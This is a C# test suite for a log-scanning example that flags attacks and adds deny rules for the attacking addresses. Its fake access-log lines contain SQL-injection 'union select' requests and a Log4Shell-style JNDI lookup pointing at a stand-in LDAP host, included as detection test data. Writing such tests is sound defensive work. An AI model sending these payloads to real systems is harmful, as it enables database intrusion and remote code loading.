using System.Diagnostics;
using System.Globalization;
using System.Text.Json;
using OpsModule.Engine.Tests.Fixtures;

namespace OpsModule.Cmdlets.Tests.Examples;

/// <summary>examples/hourly-security-scan on files and on services: through ops, and through pwsh where that is installed.</summary>
[Collection(DockerCollection.Name)]
public sealed class SecurityScanTests : IAsyncDisposable
{
    private readonly TempFolder _folder = new();
    private readonly WebServer _web = new();
    private readonly string _project = "s" + Guid.NewGuid().ToString("N")[..10];

    public async ValueTask DisposeAsync()
    {
        await _web.DisposeAsync();
        _folder.Dispose();
    }

    public static TheoryData<string> Ways => Pwsh is not null ? ["ops", "pwsh"] : ["ops"];

    [Theory]
    [MemberData(nameof(Ways))]
    public async Task Files_are_told_of_once_and_their_attackers_blocked_for_a_day(string way)
    {
        Environment();
        Append("access.log", Enumerable.Range(0, 25).Select(i => Request("203.0.113.7", $"/item?id=1%27+union+select+{i},2")));
        Append("access.log", Enumerable.Range(0, 25).Select(i => Request("198.51.100.9", $"/item?id=1%27+union+select+{i},2"))); // attacks.allow names it
        Append("access.log", [Request("203.0.113.8", "/")]);

        (int code, string said) = await RunAsync(way, "access.log*");
        Assert.True(code == (way == "ops" ? 0 : 1), said);
        JsonElement told = Told().Single();
        Assert.Equal("critical", told.GetProperty("severity").GetString());
        Assert.Contains("25 attack matches", told.GetProperty("title").GetString());
        Assert.Contains("203.0.113.7", File.ReadAllText(_folder["attacks.html"]));
        Assert.Equal(["203.0.113.7"], Denied());

        // Rotated, and quiet since: nothing is told again but that it is over; the addresses of the day stay blocked.
        File.Move(_folder["access.log"], _folder["access.log.1"]);
        Append("access.log", [Request("203.0.113.8", "/a")]);
        (code, said) = await RunAsync(way, "access.log*");
        Assert.True(code == 0, said);
        Assert.Equal(["firing", "resolved"], Told().Select(t => t.GetProperty("state").GetString()!));
        Assert.Equal(["203.0.113.7"], Denied());

        Append("access.log", [Request("203.0.113.9", "/?x=$%7Bjndi:ldap://x.example/a%7D")]);
        (code, said) = await RunAsync(way, "access.log*");
        Assert.True(code == (way == "ops" ? 0 : 1), said);
        Assert.Contains("1 attack match", Told().Last().GetProperty("title").GetString());
    }

    [Theory]
    [MemberData(nameof(Ways))]
    public async Task Services_are_looked_into_where_no_file_is_named(string way)
    {
        Environment($"platform: {{ compose: {{ file: compose.yaml, project: {_project} }} }}\n");
        string lines = string.Join('\n', Enumerable.Range(0, 25).Select(i => Request("203.0.113.7", $"/item?id=1%27+union+select+{i},2")));
        await DockerFixture.RunAsync(_project, "api", $"cat <<'END'\n{lines}\nSECURITY: audit log failure\nEND\ntrap 'exit 0' TERM; while :; do sleep 0.2; done");
        for (int attempt = 0; ; attempt++) // until the engine has what the container wrote
        {
            (int code, string said) = await RunAsync(way);
            Assert.True(code is 0 or 1, said);
            string all = File.ReadAllText(_folder["attacks.html"]) + string.Concat(Told().Select(t => t.GetRawText()));
            if (Denied() is ["203.0.113.7"] && Told().Any(t => t.GetProperty("state").GetString() == "firing") && all.Contains("SecurityEvent")) break;
            Assert.True(attempt < 50, said + all);
            await Task.Delay(200);
        }
    }

    [Theory]
    [MemberData(nameof(Ways))]
    public async Task A_scan_that_failed_tells_nobody_that_all_is_well(string way)
    {
        Environment();
        (int code, string said) = await RunAsync(way, "none.log");
        Assert.Equal(way == "ops" ? 1 : 2, code);
        Assert.Contains("none.log", said);
        Assert.Empty(_web.Requests);
        Assert.False(File.Exists(_folder["attacks.json"]));
    }

    private void Environment(string platform = "") => File.WriteAllText(_folder["ops.yaml"], $$"""
        environment: shop
        {{platform}}alerts: { receivers: { pager: { webhook: "file:hook.secret" } } }
        attacks: { allow: [ { address: 198.51.100.0/24 } ] }
        """);

    private static string Request(string client, string target) =>
        $"{client} - - [{DateTime.UtcNow.ToString("dd/MMM/yyyy:HH:mm:ss", CultureInfo.InvariantCulture)} +0000] \"GET {target} HTTP/1.1\" 200 5120 \"-\" \"-\"";

    private void Append(string file, IEnumerable<string> lines) => File.AppendAllLines(_folder[file], lines);

    private IEnumerable<JsonElement> Told() => _web.Requests.Select(r => JsonDocument.Parse(r.Split("\r\n\r\n", 2)[1]).RootElement);

    private string[] Denied() => File.Exists(_folder["blocked.conf"]) ? [.. File.ReadLines(_folder["blocked.conf"]).Where(l => l.StartsWith("deny ", StringComparison.Ordinal)).Select(l => l[5..l.IndexOf(';')])] : [];

    private static string? Pwsh => System.Environment.GetEnvironmentVariable("PATH")!.Split(':').Select(p => Path.Combine(p, "pwsh")).FirstOrDefault(File.Exists);

    /// <summary>Runs the example as a scheduler would.</summary>
    private async Task<(int Code, string Said)> RunAsync(string way, string? files = null)
    {
        File.WriteAllText(_folder["hook.secret"], _web.Url("/ok"));
        string script = Path.Combine(MorningProject.Root, "examples", "hourly-security-scan");
        string[] arguments = way == "ops"
            ? ["bash", script + ".sh", "ops.yaml", "attacks.json", "attacks.html", "blocked.conf", "Nginx", .. files is null ? Array.Empty<string>() : [files]]
            : [Pwsh!, "-NoProfile", "-File", script + ".ps1", "-Environment", "ops.yaml", "-Baseline", "attacks.json", "-Report", "attacks.html", "-BlockList", "blocked.conf", .. files is null ? Array.Empty<string>() : ["-Path", files]];
        var info = new ProcessStartInfo(arguments[0], arguments[1..]) { WorkingDirectory = _folder.Path, RedirectStandardOutput = true, RedirectStandardError = true };
        info.Environment["OPS"] = Path.Combine(MorningProject.Root, "out", "ops", "ops");
        info.Environment["PSModulePath"] = Path.Combine(MorningProject.Root, "out");
        using Process run = Process.Start(info)!;
        Task<string> output = run.StandardOutput.ReadToEndAsync(), errors = run.StandardError.ReadToEndAsync();
        await run.WaitForExitAsync();
        return (run.ExitCode, await output + await errors);
    }
}
